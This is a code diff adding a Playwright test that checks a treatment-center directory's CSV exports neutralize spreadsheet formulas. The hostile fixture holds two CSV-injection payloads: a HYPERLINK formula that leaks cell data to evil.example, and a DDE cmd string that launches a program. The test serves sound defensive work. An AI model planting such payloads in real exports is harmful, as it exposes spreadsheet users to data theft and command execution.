@@ -1,7 +1,13 @@
 // Exports: what the engine writes in the browser is what is on screen, row for row, in the
-// table's order, checked against native DuckDB reading the same release.
-import { readFileSync } from 'node:fs';
+// table's order, checked against native DuckDB reading the same release; and a CSV never
+// carries a cell a spreadsheet would run as a formula.
+import { readFileSync, writeFileSync } from 'node:fs';
+import type { Server } from 'node:http';
+import { join } from 'node:path';
 import type { Download, Page } from '@playwright/test';
+import { buildRelease } from '../scripts/build/pipeline.ts';
+import { scratchDir, scratchSources } from '../scripts/build/test-release.ts';
+import { createStaticServer } from '../scripts/serve/static-server.ts';
 import { expect, openDirectory, test } from './fixtures.ts';
 import { oracleIds, parquetIds } from './oracle.ts';
 
@@ -63,4 +69,56 @@ test('the dataset download links to the release as published', async ({ page, re
   for (const href of hrefs) expect((await request.head(href)).status(), href).toBe(200);
   const gazetteer = single.find((t) => t.files[0].path.startsWith('gazetteer/'))!.files[0];
   expect(Number((await request.head(new URL(`data/${gazetteer.path}`, page.url()).href)).headers()['content-length'])).toBe(gazetteer.bytes);
+});
+
+test.describe('on a release whose text a spreadsheet would run (the hostile fixture, with formulas)', () => {
+  // Its own server beside the test server, with this release behind /data/.
+  const port = Number(process.env.E2E_PORT ?? 4173) + 12;
+  test.use({ baseURL: `http://127.0.0.1:${port}/` });
+  const FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Harbor Light")';
+  const FORMULA_STREET = "+cmd|' /C calc'!A0";
+  let server: Server;
+
+  test.beforeAll(async () => {
+    test.setTimeout(180_000);
+    const sources = scratchSources('hostile');
+    const file = join(sources, 'treatment_centers_master.json');
+    const centers = JSON.parse(readFileSync(file, 'utf8'));
+    Object.assign(centers.all_facilities[0], { facility_name: FORMULA_NAME, address_line1: FORMULA_STREET });
+    writeFileSync(file, JSON.stringify(centers));
+    const data = join(scratchDir(), 'data');
+    await buildRelease({ sourcesDir: sources, outDir: data });
+    server = createStaticServer({ root: 'dist', mounts: { '/data': data } });
+    await new Promise<void>((done) => server.listen(port, '127.0.0.1', done));
+  });
+  test.afterAll(() => server?.close());
+
+  /** The CSV's row for one organization, split into cells by DuckDB itself. */
+  const csvRow = async (path: string, id: string) => {
+    const { DuckDBInstance } = await import('@duckdb/node-api');
+    const db = await (await DuckDBInstance.create(':memory:')).connect();
+    const reader = await db.runAndReadAll(`SELECT * FROM read_csv('${path}', all_varchar = true) WHERE org_id = '${id}'`);
+    return reader.getRowObjectsJS()[0] as Record<string, string>;
+  };
+
+  test('the results CSV and the console\'s CSV neutralize formula cells; JSON keeps the text as it is', async ({ page }) => {
+    await openDirectory(page, './?where=02108&r=5');
+    const row = page.locator('tr[data-org-id="SAMHSA_OUT_000001"]');
+    await expect(row).toContainText(FORMULA_NAME, { timeout: 30_000 });
+
+    const results = await csvRow((await (await download(page, 'CSV')).path())!, 'SAMHSA_OUT_000001');
+    expect(results.name).toBe(`'${FORMULA_NAME}`);
+    expect(results.address_line1).toMatch(/^'\+cmd/);
+    const json = JSON.parse(readFileSync((await (await download(page, 'JSON')).path())!, 'utf8')) as Record<string, string>[];
+    expect(json.find((r) => r.org_id === 'SAMHSA_OUT_000001')?.name).toBe(FORMULA_NAME);
+
+    const sql = "SELECT org_id, name, address_line1 AS \"=street\" FROM organizations_by_id WHERE org_id = 'SAMHSA_OUT_000001'";
+    await page.goto(`./?view=sql&sql=${encodeURIComponent(sql)}`);
+    await page.getByRole('button', { name: 'Run' }).click();
+    await expect(page.locator('[data-rows]')).toHaveAttribute('data-rows', '1', { timeout: 30_000 });
+    const consoleCsv = (await (await download(page, 'CSV')).path())!;
+    const fromConsole = await csvRow(consoleCsv, 'SAMHSA_OUT_000001');
+    expect(fromConsole.name).toBe(`'${FORMULA_NAME}`);
+    expect(fromConsole["'=street"]).toMatch(/^'\+cmd/); // a column's name is a cell too
+  });
 });
